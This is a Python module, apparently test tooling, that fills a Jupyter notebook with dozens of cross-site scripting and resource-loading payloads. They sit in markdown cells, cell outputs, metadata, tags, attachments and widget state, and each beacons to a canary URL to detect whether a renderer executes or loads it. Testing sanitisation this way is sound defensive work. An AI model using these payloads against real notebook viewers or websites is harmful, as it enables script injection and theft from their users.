"""A submission in which every place that a page shows tries to act.

Each attack, if it works, asks for ``<canary>/<its name>``: by running a script, or by loading
something. ``attack`` adds them all to a notebook. Some wait for a click.
"""

import html
import json
from collections.abc import Iterator

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
WIDGET_STATE = "application/vnd.jupyter.widget-state+json"
WIDGET_VIEW = "application/vnd.jupyter.widget-view+json"

OUTWARD = "outward"
"""No attack: a link that says where it leads, and leads there when somebody clicks on it."""

# JS stands for a script that gives the attack away, URL for the address that does.
MARKDOWN = {
    "script": "<script>JS</script>",
    "img-onerror": '<img src=x onerror="JS">',
    "svg-onload": '<svg onload="JS"></svg>',
    "details-ontoggle": '<details open ontoggle="JS">more</details>',
    "input-onfocus": '<input autofocus onfocus="JS">',
    "body-onpageshow": '<body onpageshow="JS">',
    "animation": '<style>@keyframes k{}</style><p style="animation:k" onanimationstart="JS">',
    "iframe": '<iframe src="URL"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "video": '<video src="URL"></video>',
    "audio": '<audio src="URL" autoplay></audio>',
    "picture": '<picture><source srcset="URL"><img src="data:,"></picture>',
    "srcset": '<img srcset="URL 2x, URL 1x">',
    "image": "![pixel](URL)",
    "stylesheet": '<link rel="stylesheet" href="URL">',
    "preload": '<link rel="preload" as="image" href="URL">',
    "import": "<style>@import url(URL);</style>",
    "background": '<p style="background: url(URL)">text</p>',
    "list-style": '<ul style="list-style-image: url(URL)"><li>text</li></ul>',
    "table-background": '<table background="URL"><tr><td>1</td></tr></table>',
    "heading": '# Title <img src=x onerror="JS">',
    "table": '| a |\n| - |\n| <img src=x onerror="JS"> |',
    "mermaid": '```mermaid\n<img src=x onerror="JS">\n```',
    "fence-language": '```"><img/src=x/onerror="JS">\ntext\n```',
    "title": '![a](x "\\"onerror=\\"JS")',
    "comment": '<!--><img src=x onerror="JS">-->',
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror='JS2'>\">",
    "svg-style": '<svg><style><img src=x onerror="JS"></style></svg>',
    "mglyph": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=&quot;JS&quot;&gt;">'
    ),
    "xmp": "<xmp><p title=\"</xmp><img src=x onerror='JS2'>\">",
    "foreign-object": '<svg><foreignObject><img src=x onerror="JS"></foreignObject></svg>',
    "svg-use": '<svg><image href="URL"/></svg>',
    "math": '<math><annotation-xml encoding="text/html"><img src=x onerror="JS"></math>',
    "template": '<template shadowrootmode="open"><img src=x onerror="JS"></template>',
    "long": '<img src=x onerror="JS">' + " " * 30_000,
}
# These take the page away, turn its addresses, or stop nbgrader from making it.
BREAKING = {
    "missing": "![c](attachment:no.png)",
    "base": '<base href="URL/">',
    "refresh": '<meta http-equiv="refresh" content="0; url=URL">',
}
WAITING = {
    OUTWARD: "[click](URL)",
    "link": "[click](<javascript:JS>)",
    "link-html": '<a href="javascript:JS">click</a>',
    "link-in-pieces": '<a href="jav&#x0A;ascript:JS">click</a>',
    "link-control": '<a href="&#1;JavaScript:JS">click</a>',
    "link-files": "[click](</files/javascript:JS>)",
    "link-reference": "[click][r]\n\n[r]: <javascript:JS>",
    "link-data": '<a href="data:text/html,<script>JS2</script>">click</a>',
    "link-svg": '<svg><a href="javascript:JS"><text y="20">click</text></a></svg>',
    "link-math": '<math href="javascript:JS"><mtext>click</mtext></math>',
    "link-ping": '<a href="#" ping="URL">click</a>',
    "link-relative": "[click](//URL)",
    "form": '<form action="URL"><button>click</button></form>',
    "formaction": '<form><button formaction="javascript:JS">click</button></form>',
    "onclick": '<a onclick="JS">click</a>',
    "data-link": '<a data-link="javascript:JS">click</a>',
    "tooltip": (
        '<a data-toggle="tooltip" data-html="true" title=\'<img src=x onerror="JS">\'>click</a>'
    ),
    "math-href": r"$\href{javascript:JS}{click}$",
    "cover": '<a class="navbar-fixed-top" style="position: fixed; inset: 0" onclick="JS">click</a>',
}


def attack(nb: NotebookNode, canary: str, breaking: bool) -> None:
    """Add every attack to a notebook."""
    written = MARKDOWN | WAITING | (BREAKING if breaking else {})
    for name, source in written.items():
        nb.cells.append(new_markdown_cell(_aimed(source, name, canary)))
    nb.cells += [_attached(canary), _tagged(canary), _raw(canary)]
    nb.cells += [_named(canary)] if breaking else []
    for output in _outputs(canary):
        nb.cells.append(new_code_cell("1 # </script>", outputs=[output]))
    code = html.escape(_image("language", canary), quote=False)
    nb.metadata.title = _image("notebook-title", canary)
    nb.metadata.language_info = {"name": code, "pygments_lexer": f'x"{code}'}
    broken = f"</script>{_image('widget-state', canary)}"
    nb.metadata.widgets = {WIDGET_STATE: {"state": {"m": {"model": broken}}}}


def _aimed(source: str, name: str, canary: str) -> str:
    url = f"{canary}/{name}"
    source = source.replace("//URL", url.removeprefix("http:")).replace("URL", url)
    return source.replace("JS2", f"new Image().src=`{url}`").replace(
        "JS", f"new Image().src='{url}'"
    )


def _image(name: str, canary: str) -> str:
    return _aimed('"><img src=x onerror="JS">', name, canary)


def _attached(canary: str) -> NotebookNode:
    cell = new_markdown_cell("![a](attachment:a.png) ![b](attachment:b)")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{canary}/attached-svg"/></svg>'
    cell.attachments = {
        "a.png": {"image/png": _image("attached", canary)},
        "b": {"image/svg+xml": svg, "text/html": _image("attached-html", canary)},
    }
    return cell


def _tagged(canary: str) -> NotebookNode:
    tags = [_image("tag", canary), "x navbar-fixed-top"]
    return new_code_cell("1", metadata={"tags": tags, "magics_language": _image("magics", canary)})


def _raw(canary: str) -> NotebookNode:
    return new_raw_cell(_image("raw", canary), metadata={"raw_mimetype": "text/html"})


def _named(canary: str) -> NotebookNode:
    info = {"grade_id": _image("grade-id", canary), "grade": True, "solution": True, "points": 1}
    return new_markdown_cell("answer", metadata={"nbgrader": info})


def _outputs(canary: str) -> Iterator[NotebookNode]:
    def image(name: str) -> str:
        return _image(name, canary)

    def shown(data: dict, **metadata: dict) -> NotebookNode:
        return new_output("display_data", data=data, metadata=metadata)

    script = _aimed("<script>JS</script>", "output-script", canary)
    yield shown({"text/html": script})
    yield shown({"text/html": image("output-html")})
    yield shown({"text/html": image("output-isolated")}, **{"text/html": {"isolated": True}})
    yield shown({"application/javascript": _aimed("JS", "output-javascript", canary)})
    yield shown({"text/markdown": image("output-markdown")})
    yield shown({"text/latex": f"$x$ {image('output-latex')}"})
    yield shown({"text/plain": image("output-plain")})
    yield shown({"image/png": image("output-png")})
    yield shown({"image/png": PNG}, **{"image/png": {"alt": image("output-alt")}})
    size = {"width": f"1 onload=fetch(`{canary}/output-width`)"}
    yield shown({"image/png": PNG}, **{"image/png": size})
    yield shown({"image/png": PNG}, filenames={"image/png": f"{canary}/output-file"})
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><image href="URL"/></svg>'
    yield shown({"image/svg+xml": _aimed(svg, "output-svg", canary)})
    yield shown({"text/vnd.mermaid": image("output-mermaid")})
    yield shown({WIDGET_VIEW: {"model_id": "m", "x": f"</script>{image('output-widget')}"}})
    yield shown({"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": script}}})
    yield shown({f"text/{image('output-type')}": "1"})
    yield new_output("stream", name="stdout", text=image("output-stream"))
    yield new_output("stream", name="stderr", text=f"\x1b[31;1{image('output-colour')}m1\x1b[0m")
    message = image("output-error")
    yield new_output("error", ename=message, evalue=message, traceback=[message])
    yield new_output(
        "execute_result", data={"text/html": json.dumps(image("output-result"))}, execution_count=1
    )
